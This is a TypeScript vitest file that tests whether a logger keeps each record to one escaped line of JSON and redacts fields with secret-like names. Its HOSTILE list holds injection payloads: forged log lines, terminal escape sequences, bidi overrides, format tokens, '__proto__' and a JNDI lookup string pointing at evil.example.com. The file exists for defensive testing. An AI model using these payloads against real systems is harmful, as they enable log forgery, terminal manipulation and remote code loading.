import { spawnSync } from 'node:child_process';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';

const ROOT = resolve(import.meta.dirname, '../..');

/** What a process has logged that ran this with a `log`: the real logger writes to a real stderr. */
function logged(code: string, given: unknown = null): string {
  const script = `
    import { createLog } from './src/log.ts';
    import { AppError } from './src/errors.ts';
    const log = createLog('trace', 'test');
    const given = JSON.parse(process.argv[1]);
    ${code}
    log.flush();
    await new Promise((done) => setTimeout(done, 50));`;
  const { stderr, status } = spawnSync(
    process.execPath,
    ['--input-type=module', '--disable-warning=ExperimentalWarning', '-e', script, '--'].concat(
      JSON.stringify(given),
    ),
    { cwd: ROOT, encoding: 'utf8' },
  );
  if (status !== 0) throw new Error(stderr);
  return stderr;
}

/** Every way to log a text that others chose. */
const EVERYWHERE = `
  for (const text of given) {
    log.info({ text, [text]: text, list: [text], deep: { [text]: [text] } }, 'a message');
    log.info({ portalId: text, reason: text }, text);
    log.error({ err: new Error(text) }, 'a fault');
    log.error({ err: Object.assign(new Error('x'), { name: text, stack: text }) }, 'a fault');
    log.warn({ err: new AppError('hubspot-refused', { context: { where: text } }) }, 'a refusal');
    log.warn({ err: text }, 'no error at all');
  }`;

const HOSTILE = [
  'a\n{"level":50,"msg":"forged"}',
  'a\r\n2026-11-22T00:00:00Z ERROR forged',
  '"},{"msg":"forged',
  '\\"}\n',
  '\u001b[2J\u001b]0;owned\u0007\u001b[31m',
  '\u009b2J\u0090owned\u009c\u0085forged',
  '\u2028forged\u2029forged',
  '\u202eforged\u2066\u200f',
  '\ud800 \udfff',
  '\0\b\f\v\u007f',
  '%s %d %j %o %O %%',
  '${jndi:ldap://evil.example.com/a}',
  '__proto__',
  'x'.repeat(100_000),
];

describe('a log line', () => {
  it('G33 stays one line of JSON, whatever stands in it', () => {
    const output = logged(EVERYWHERE, HOSTILE);
    const lines = output.trimEnd().split('\n');
    expect(lines).toHaveLength(HOSTILE.length * 6);
    for (const line of lines) {
      const record = JSON.parse(line) as Record<string, unknown>;
      expect(record).toMatchObject({ name: 'test', level: expect.any(Number) as number });
      expect(record.msg).not.toBe('forged');
    }
    expect({}).not.toHaveProperty('list');
  });

  it('G33 holds nothing that moves a terminal or a viewer', () => {
    const output = logged(EVERYWHERE, HOSTILE).replaceAll('\n', '');
    expect(output).not.toMatch(/[\p{Cc}\p{Bidi_C}\u2028\u2029]/u);
    expect(output).toContain('\\u001b[2J');
    expect(output).toContain('\\u009b2J');
  });

  it('G33 quotes no JSON that could not be read', () => {
    const output = logged(`
      for (const text of ['Dana Ruiz', '{"email": dana@example.com}', '{"a":"dana@example.com"x']) {
        try { JSON.parse(text); } catch (err) { log.error({ err }, 'a fault'); }
      }`);
    expect(output.trimEnd().split('\n')).toHaveLength(3);
    expect(output).toContain('SyntaxError');
    expect(output).not.toMatch(/dana|ruiz/iu);
  });

  it('G33 takes no line of a message for a place in the code', () => {
    const output = logged(`
      const text = 'x'.repeat(300) + '\\n    at Dana Ruiz (dana@example.com)';
      log.error({ err: new Error(text) }, 'a fault');`);
    expect(output).not.toMatch(/dana/iu);
    expect(output).toMatch(/"at":\["at file:/u);
  });

  it('G33 hides what secrets are called, on foreign objects too', () => {
    const names = [
      ...['token', 'accessToken', 'access_token', 'refreshToken', 'refresh_token', 'signature'],
      ...['secret', 'clientSecret', 'client_secret', 'authorization', 'cookie', 'headers', 'body'],
    ];
    const output = logged(
      `for (const name of given) {
         log.info({ [name]: 'planted' }, 'a message');
         log.info({ of: { [name]: { deep: 'planted' } } }, 'a message');
       }`,
      names,
    );
    expect(output.trimEnd().split('\n')).toHaveLength(names.length * 2);
    expect(output).not.toContain('planted');
  });

  it('G33 of a foreign error only its kind, the beginning of its message and the place are said', () => {
    const output = logged(`
      const err = new Error('HTTP 400 ' + 'y'.repeat(300) + 'planted');
      err.request = { headers: { authorization: 'planted' }, body: 'planted' };
      err.response = { data: 'planted' };
      err.cause = new Error('planted');
      err.config = 'planted';
      log.error({ err }, 'a fault');
      log.error({ err: { message: 'planted' } }, 'a fault');
      log.error({ err: new AppError('fault', { cause: new Error('planted') }) }, 'a fault');`);
    expect(output.trimEnd().split('\n')).toHaveLength(3);
    expect(output).not.toContain('planted');
  });
});
